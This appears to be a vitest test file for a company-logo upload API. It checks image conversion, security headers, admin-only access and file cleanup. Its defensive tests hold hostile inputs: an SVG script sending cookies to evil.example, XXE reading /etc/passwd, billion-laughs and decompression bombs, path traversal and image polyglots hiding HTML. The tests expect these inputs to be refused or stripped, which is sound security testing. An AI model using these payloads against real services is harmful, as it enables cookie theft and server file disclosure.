import express from 'express'
import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { ageFiles, createTestApp, type TestApp } from '../../../tests/harness/app'
import { byteHandlers } from '../../../tests/harness/bytes'
import { createTestCompany, type TestCompany } from '../../../tests/harness/company'
import { cookieOf } from '../../../tests/harness/cookie'
import { bareApp, type Listening, listen } from '../../../tests/harness/http'
import { inTenant } from '../../platform/database/db'
import type { Role } from '../../platform/permissions'
import { removeUnnamedFiles } from '../../services/exchange/files/remove-unnamed'
import { loadLogo } from '../../services/people/companies/load-logo'

let app: TestApp
let server: Listening
let company: TestCompany
const cookies = {} as Record<Role, string>
const { app: quiet } = bareApp()

beforeAll(async () => {
  app = await createTestApp()
  const web = express()
  web.use(byteHandlers({ ...app, log: quiet.log }).bytes)
  server = await listen(web)
})
afterAll(async () => {
  await server.close()
  await app.stop()
})
beforeEach(async () => {
  company = await createTestCompany(app)
  for (const role of [1, 2, 3] as const) cookies[role] = await cookieOf(app, company, role)
})

const picture = (width = 300, height = 120) =>
  sharp({ create: { width, height, channels: 4, background: { r: 20, g: 90, b: 160, alpha: 0.5 } } })

function send(bytes: Buffer, { role = 1, type = 'image/png' }: { role?: Role; type?: string } = {}) {
  const form = new FormData()
  form.set('file', new Blob([new Uint8Array(bytes)], { type }), 'logo.png')
  return fetch(`${server.url}/api/settings/company/logo`, {
    method: 'POST',
    headers: { Cookie: cookies[role] },
    body: form,
  })
}
const read = (companyId = company.companyId, cookie = cookies[3], headers: Record<string, string> = {}) =>
  fetch(`${server.url}/api/company/logo/${companyId}`, { headers: { Cookie: cookie, ...headers } })
const bytesOf = async (response: Response) => Buffer.from(await response.arrayBuffer())

async function kept() {
  const files: string[] = []
  for await (const { key } of app.storage.list(`${company.tenantId}/company-logo`)) files.push(key)
  const rows = await inTenant(company.ctx(), tx => tx.storedFile.count({ where: { purpose: 'company_logo' } }))
  return { files: files.length, rows }
}

describe('a logo', () => {
  test('is a PNG with its transparency, for every user of the company and on its documents', async () => {
    const response = await send(await picture().webp().toBuffer())
    expect(response.status).toBe(200)
    const { data } = await response.json()
    expect(data).toMatchObject({ logo_mime: 'image/png' })
    expect(data.logo).toMatch(new RegExp(`^/api/company/logo/${company.companyId}\\?v=[0-9a-f]{8}$`))
    expect((await company.as().companies.settings()).data.logo).toBe(data.logo)

    const given = await read()
    expect(Object.fromEntries(given.headers)).toMatchObject({
      'content-type': 'image/png',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
      'cache-control': 'private, no-cache',
    })
    const bytes = await bytesOf(given)
    expect(await sharp(bytes).metadata()).toMatchObject({
      format: 'png',
      width: 300,
      height: 120,
      hasAlpha: true,
    })
    const again = await read(undefined, undefined, { 'If-None-Match': given.headers.get('etag') ?? '' })
    expect(again.status).toBe(304)

    const row = await inTenant(company.ctx(), tx => tx.company.findUniqueOrThrow({ where: { id: company.tenantId } }))
    expect(await loadLogo(app, row)).toBe(`data:image/png;base64,${bytes.toString('base64')}`)
  })

  test('replaces the former one, whose file is deleted, and is deleted itself on removal', async () => {
    await send(await picture().png().toBuffer())
    const first = (await company.as().companies.settings()).data.logo
    await send(await picture(64, 64).png().toBuffer())
    expect((await company.as().companies.settings()).data.logo).not.toBe(first)
    expect(await kept()).toEqual({ files: 1, rows: 1 })
    const remove = await fetch(`${server.url}/api/settings/company/logo`, {
      method: 'POST',
      headers: { Cookie: cookies[1], 'Content-Type': 'application/json' },
      body: '{"remove":true}',
    })
    expect(await remove.json()).toEqual({ data: { logo: null, logo_mime: null } })
    expect(await kept()).toEqual({ files: 0, rows: 0 })
    expect((await read()).status).toBe(404)
    const { data } = await company.as().audit.list({ entity: 'company' })
    expect(data.slice(0, 3).map(entry => entry.action)).toEqual([
      'company.logo_removed',
      'company.logo_set',
      'company.logo_set',
    ])
  })

  test('larger than its place on paper is scaled down', { tags: 'long' }, async () => {
    await send(await picture(4000, 1000).png().toBuffer())
    expect(await sharp(await bytesOf(await read())).metadata()).toMatchObject({ width: 1200, height: 300 })
  })

  test('of another company gets the same response byte for byte as one that does not exist', async () => {
    const other = await createTestCompany(app)
    await send(await picture().png().toBuffer())
    const foreignCookie = await cookieOf(app, other, 1)
    const answers = await Promise.all(
      [company.companyId, 'nobody', other.companyId, '..%2f..%2fetc%2fpasswd'].map(async id => {
        const response = await read(id, foreignCookie)
        return [response.status, await response.text()]
      }),
    )
    expect(new Set(answers.map(String)).size).toBe(1)
    expect(answers[0]?.[0]).toBe(404)
  })

  test('is set and removed by administrators only, and not read without a session', async () => {
    const bytes = await picture().png().toBuffer()
    for (const role of [2, 3] as const) expect((await send(bytes, { role })).status).toBe(403)
    const remove = await fetch(`${server.url}/api/settings/company/logo`, {
      method: 'DELETE',
      headers: { Cookie: cookies[2] },
    })
    expect(remove.status).toBe(403)
    expect((await read(company.companyId, '')).status).toBe(401)
    expect(await kept()).toEqual({ files: 0, rows: 0 })
  })

  test('without a row is deleted by the sweep', async () => {
    const folder = `${company.tenantId}/company-logo`
    await app.storage.put(`${folder}/left-behind`, Buffer.from('x'))
    await send(await picture().png().toBuffer())
    await ageFiles(app, folder, 25)
    await removeUnnamedFiles({ ...app, log: quiet.log })
    expect(await kept()).toEqual({ files: 1, rows: 1 })
    expect((await read()).status).toBe(200)
  })
})

describe('a file that is not a logo', () => {
  const svg = (body: string) =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${body}</svg>`)
  const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'

  async function refused(cases: ReadonlyArray<readonly [name: string, bytes: Buffer, type?: string]>) {
    const answers: Array<[string, number]> = []
    for (const [name, bytes, type] of cases) answers.push([name, (await send(bytes, { type })).status])
    expect(answers.filter(([, status]) => status !== 415 && status !== 422)).toEqual([])
    expect(await kept()).toEqual({ files: 0, rows: 0 })
    return answers.length
  }

  test('is refused in each of 20 disguises, and nothing of it is stored', { tags: 'long' }, async () => {
    const png = await picture().png().toBuffer()
    const cases = [
      ['svg', svg('<rect/>'), 'image/svg+xml'],
      ['svg as png', svg('<rect/>'), 'image/png'],
      ['svg with script', svg(script), 'image/svg+xml'],
      ['svg with handler', svg('<image href="x" onerror="alert(1)"/>'), 'image/png'],
      ['svg with foreign object', svg('<foreignObject><body/></foreignObject>'), 'image/png'],
      ['svg that reads a file', svg('<image href="file:///etc/passwd"/>'), 'image/png'],
      ['svg that asks another host', svg('<image href="https://evil.example/x.png"/>'), 'image/png'],
      [
        'svg with an entity',
        Buffer.from('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
      ],
      [
        'billion laughs',
        Buffer.from(
          `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'a'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}">]><svg>${'&b;'.repeat(100)}</svg>`,
        ),
      ],
      ['svg after a space', Buffer.concat([Buffer.from(' '), svg(script)])],
      ['svg after a mark', Buffer.concat([Buffer.from('\uFEFF'), svg(script)])],
      ['html', Buffer.from(`<!doctype html>${script}`), 'image/png'],
      ['gif', Buffer.from('GIF89a/*'), 'image/gif'],
      ['pdf', Buffer.from('%PDF-1.7\n'), 'image/png'],
      ['zip', Buffer.from('PK\u0003\u0004'), 'image/png'],
      ['a head of png alone', png.subarray(0, 33), 'image/png'],
      ['a png cut off', png.subarray(0, png.length - 30), 'image/png'],
      ['a png head with svg behind it', Buffer.concat([png.subarray(0, 8), svg(script)]), 'image/png'],
      [
        'a jpeg head with html behind it',
        Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(script)]),
        'image/jpeg',
      ],
      ['a webp head with nothing behind it', Buffer.from('RIFF\u0004\u0000\u0000\u0000WEBP', 'latin1'), 'image/webp'],
    ] as const
    expect(await refused(cases)).toBe(20)
  })

  test(
    'is refused if it has more than 4,000 pixels on a side, however few bytes it has',
    { tags: 'long' },
    async () => {
      const wide = await picture(4001, 1).png().toBuffer()
      // 50 MB when decoded.
      const bomb = await sharp({ create: { width: 4100, height: 4100, channels: 3, background: '#fff' } })
        .png({ compressionLevel: 1 })
        .toBuffer()
      expect(bomb.length).toBeLessThan(500_000)
      // Its header claims 60,000 pixels of width and height.
      const lying = await picture().png().toBuffer()
      lying.writeUInt32BE(60_000, 16)
      lying.writeUInt32BE(60_000, 20)
      expect(
        await refused([
          ['wide', wide],
          ['bomb', bomb],
          ['lying', lying],
        ]),
      ).toBe(3)
    },
  )

  test('is refused above 5 MB', async () => {
    const response = await send(Buffer.alloc(5_000_001, 1))
    expect(response.status).toBe(413)
    expect(await response.json()).toMatchObject({ details: { maxBytes: 5_000_000 } })
  })

  test('is stripped of trailing data: a polyglot is stored as a picture and nothing else', async () => {
    const hidden = Buffer.from(`<html>${script}</html>`)
    const polyglots = await Promise.all([
      picture()
        .png()
        .toBuffer()
        .then(bytes => Buffer.concat([bytes, hidden])),
      picture()
        .flatten()
        .jpeg()
        .withExif({ IFD0: { Copyright: script } })
        .toBuffer(),
      picture()
        .webp()
        .toBuffer()
        .then(bytes => Buffer.concat([bytes, hidden])),
    ])
    for (const bytes of polyglots) {
      expect(bytes.includes('evil.example')).toBe(true)
      expect((await send(bytes)).status).toBe(200)
      expect((await bytesOf(await read())).includes('evil.example')).toBe(false)
    }
  })
})
